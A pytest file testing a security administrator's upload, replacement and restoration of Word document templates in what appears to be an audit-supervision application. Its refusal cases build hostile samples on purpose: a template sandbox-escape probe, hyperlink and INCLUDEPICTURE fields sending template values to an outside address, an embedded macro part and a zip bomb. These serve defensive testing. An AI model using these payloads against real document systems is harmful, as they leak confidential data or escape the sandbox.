"""The security administrator's templates: the built-in ones pass their own check; an upload
that is not a sound template of its kind is refused with the reason and changes nothing; a
replaced template makes the next documents; nothing but the kind's fields reaches one."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest
import sqlalchemy as sa
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement

from supervise.documents import templates
from supervise.documents.kinds import KINDS
from supervise.documents.layout import built_in
from supervise.documents.models import DocumentKind, DocumentTemplate
from supervise.events.models import Event
from supervise.extensions import db
from tests.documents.conftest import docx_text
from tests.documents.test_documents import PERSON, POSITION, fetch, make
from tests.factories import UserFactory
from tests.rectifications.factories import S as RS
from tests.rectifications.factories import rectification_in
from tests.referrals.factories import S, referral_in
from tests.support.files import PDF

NOTICE = DocumentKind.RECTIFICATION_NOTICE
NOTICE_FIELDS = ("{{ issuer }}", "{{ number }}", "{{ title }}", "{{ addressee }}：",
                 "{{ date }}", "{%p for para in facts %}", "{{ para }}", "{%p endfor %}",
                 "整改期限：{{ deadline }}")


def template(*paragraphs: str) -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@pytest.fixture
def secadmin(world, client):
    user = UserFactory(username="sec.admin", agency=world.audit, roles=["secadmin"], locale="en")
    db.session.commit()
    assert client.sign_in(user.username).status_code == 302
    return client


def upload(client, kind: str, content: bytes, filename: str = "模板.docx"):
    return client.post(f"/settings/documents/{kind}", data={
        "csrf_token": client.csrf_token(), "file": (io.BytesIO(content), filename)},
        content_type="multipart/form-data", headers={"Accept-Language": "en"},
        follow_redirects=True)


def stored() -> list:
    db.session.expire_all()
    return db.session.scalars(sa.select(DocumentTemplate)).all()


@pytest.mark.parametrize("kind", list(DocumentKind))
def test_each_built_in_template_passes_the_check_of_its_kind(app, kind):
    with app.test_request_context():
        templates.check(kind, "x.docx", built_in(kind))
        filled = docx_text(templates.render(kind, templates.sample_context(KINDS[kind])))
        assert "{{" not in filled and "{%" not in filled


def test_a_replaced_template_makes_the_next_documents(world, as_, secadmin):
    item = rectification_in(world, RS.NOT_STARTED)
    response = upload(secadmin, "rectification_notice",
                      template("本区格式 {{ issuer }}", *NOTICE_FIELDS))
    assert response.status_code == 200
    assert "The template of Rectification notice is replaced." in response.get_data(as_text=True)
    [row] = stored()
    assert (row.kind, row.filename, row.uploaded_by.username) == (NOTICE, "模板.docx",
                                                                   "sec.admin")
    assert make(as_("audit_staff"), item, "rectification_notice", "rectifications") \
        .status_code == 201
    text = docx_text(fetch(as_("unit_contact"), item, "rectification_notice",
                           "rectifications").data)
    assert "本区格式 区审计局" in text and "区教育局：" in text and item.facts in text
    # The download offers the template in force; restoring brings the built-in one back.
    current = secadmin.get("/settings/documents/rectification_notice/template.docx")
    assert "本区格式" in docx_text(current.data)
    restored = secadmin.post("/settings/documents/rectification_notice/restore",
                             data={"csrf_token": secadmin.csrf_token()}, follow_redirects=True)
    assert restored.status_code == 200 and stored() == []
    assert docx_text(secadmin.get("/settings/documents/rectification_notice/template.docx")
                     .data) == docx_text(built_in(NOTICE))
    actions = [e.action for e in db.session.scalars(sa.select(Event).where(
        Event.object_type == "document_templates").order_by(Event.seq))]
    assert actions == ["document.template_replace", "document.template_restore"]


def _linked() -> bytes:
    """A template whose document links out, with a value in the address."""
    document = docx.Document()
    for text in NOTICE_FIELDS:
        document.add_paragraph(text)
    document.part.relate_to("http://203.0.113.9/collect?{{ facts }}", RT.HYPERLINK,
                            is_external=True)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _fetching_field() -> bytes:
    """A template with a Word field that fetches a picture from an address with a value."""
    document = docx.Document()
    for text in NOTICE_FIELDS:
        document.add_paragraph(text)
    run = document.add_paragraph().add_run()
    instruction = OxmlElement("w:instrText")
    instruction.text = ' includepicture "http://203.0.113.9/p.png?{{ number }}" \\d '
    run._r.append(instruction)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _with_macros() -> bytes:
    source = zipfile.ZipFile(io.BytesIO(template(*NOTICE_FIELDS)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for item in source.infolist():
            archive.writestr(item, source.read(item.filename))
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros")
    return out.getvalue()


def _bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"\x00" * (60 * 1024 * 1024))
    return out.getvalue()


REFUSED = [
    # A unit's notice may not carry the persons involved of a referral, or anything else its
    # kind does not have.
    (template(*NOTICE_FIELDS, "{{ persons }}"), "fields that a Rectification notice does not "
                                                "have: persons"),
    (template(*NOTICE_FIELDS, "{{ facts_of_referral }}"), "does not have: facts_of_referral"),
    (template("{{ issuer }}", "{{ number }}", "{{ title }}", "{{ date }}",
              "{{ deadline }}", "{{ facts }}"), "must show: addressee"),
    (template(*NOTICE_FIELDS, "{{ number "), "do not parse"),
    (template(*NOTICE_FIELDS, "{% for x in %}"), "do not parse"),
    # The sandbox: no attribute of a value leads anywhere.
    (template(*NOTICE_FIELDS, "{{ number.__class__.__mro__ }}"), "does not render"),
    (template(*NOTICE_FIELDS, "{{ number|no_such_filter }}"), "do not parse"),
    (PDF, "Word document (.docx)"),
    (b"", "Choose a file"),
    (b"PK\x03\x04 not really a zip", "Word document (.docx)"),
    (_bomb(), "unpacks to more than"),
    # Nothing that, opened by a party, would carry the values elsewhere.
    (_linked(), "links to something outside the document"),
    (_fetching_field(), "fetches or runs something outside the document"),
    (_with_macros(), "macros or embedded objects"),
]


@pytest.mark.parametrize(("content", "reason"), REFUSED)
def test_a_template_that_does_not_fit_is_refused_with_its_reason(world, secadmin, content,
                                                                reason):
    before = db.session.scalar(sa.select(sa.func.count()).select_from(Event))
    response = upload(secadmin, "rectification_notice", content,
                      filename="模板.docx" if content else "")
    assert response.status_code == 200  # back on the page, with the reason
    assert reason in response.get_data(as_text=True)
    assert stored() == []
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Event)) == before


def test_an_oversized_template_is_refused(world, secadmin, monkeypatch):
    monkeypatch.setattr(templates, "MAX_TEMPLATE_BYTES", 10_000)
    response = upload(secadmin, "rectification_notice",
                      template(*NOTICE_FIELDS, "填充" * 20_000))
    assert "larger than" in response.get_data(as_text=True) and stored() == []


def test_only_the_security_administrator_reaches_the_templates(world, client):
    assert client.sign_in("audit.leader").status_code == 302
    for url in ("/settings/documents", "/settings/documents/chaser/template.docx"):
        assert client.get(url).status_code == 403
    assert client.post("/settings/documents/chaser", data={
        "csrf_token": client.csrf_token()}).status_code == 403
    assert stored() == []


def test_an_unknown_kind_is_not_there(secadmin):
    assert secadmin.get("/settings/documents/memo/template.docx").status_code == 404
    assert upload(secadmin, "memo", template("x")).status_code == 404


def test_a_referral_letter_template_may_show_the_persons_to_the_parties(world, as_,
                                                                       secadmin):
    fields = ("{{ issuer }}", "{{ number }}", "{{ title }}", "{{ addressee }}", "{{ date }}",
              "{{ answer_by }}", "{%p for para in facts %}", "{{ para }}", "{%p endfor %}",
              "{%p for p in persons %}", "涉及：{{ p.name }}（{{ p.position }}）",
              "{%p endfor %}")
    assert "is replaced" in upload(secadmin, "referral_letter",
                                   template(*fields)).get_data(as_text=True)
    referral = referral_in(world, S.SENT, persons=((PERSON, POSITION),))
    assert make(as_("audit_staff"), referral, "referral_letter").status_code == 201
    text = docx_text(fetch(as_("disc_staff"), referral, "referral_letter").data)
    assert f"涉及：{PERSON}（{POSITION}）" in text
